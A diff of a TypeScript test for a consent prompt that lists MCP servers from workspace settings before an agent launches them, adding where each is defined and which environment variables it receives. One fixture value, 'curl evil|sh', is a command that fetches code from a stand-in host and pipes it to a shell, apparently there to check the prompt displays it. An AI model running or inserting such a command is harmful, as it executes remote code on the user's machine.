@@ -241,7 +241,7 @@ describe('an agent that the settings of the workspace start', () => {
       const all = servers.map(({ scope, folder, ...content }, at) => ({
         key: String(at),
         server: { ...content, scope, ...(folder !== undefined && { folder }) } as McpServerDefinition,
-        ...{ inputs: [], folders: [] },
+        ...{ inputs: [], folders: [], variables: [], place: 'settings.json' },
         content,
       }))
       return (await launches.mcpServers(all, asks)).size
@@ -251,7 +251,10 @@ describe('an agent that the settings of the workspace start', () => {
     assert.equal(await ask(launches, [server()]), 0)
     assert.equal(await ask(launches, [server()]), 0)
     assert.equal(shown.length, 1)
-    assert.match(shown[0]!, /^Name: theirs\nCommand: run x\nEnvironment: TOKEN=y$/m)
+    assert.match(
+      shown[0]!,
+      /^Name: theirs\nCommand: run x\nEnvironment: TOKEN=y\nDefined in: settings\.json$/m,
+    )
     answer = 'Allow MCP Servers'
     assert.equal(await ask(launches, [server()], 'again'), 1)
     assert.equal(await ask(consent(), [server({ scope: 'folder', folder: 'one' })]), 1)
@@ -280,10 +283,11 @@ describe('an agent that the settings of the workspace start', () => {
       { ...text, id: 'name', default: 'a b' },
       { ...text, id: 'key' },
     ]
-    await consent().mcpServers([{ key: '', server, inputs, folders: ['/w'], content: 1 }], 'once')
+    const offered = { key: '', server, inputs, content: 1, place: '.mcp.json', variables: ['TOKEN', 'HOME'] }
+    await consent().mcpServers([{ ...offered, folders: ['/w'] }], 'once')
     assert.match(
       shown[0] ?? '',
-      /^Folder: \/w\nOptions of the input mode: slow fast="curl evil\|sh"\nDefault of the input name: "a b"$/m,
+      /^Defined in: \.mcp\.json\nFolder: \/w\nGets these environment variables: TOKEN HOME\nOptions of the input mode: slow fast="curl evil\|sh"\nDefault of the input name: "a b"$/m,
     )
     assert.doesNotMatch(shown[0] ?? '', /key:/)
   })
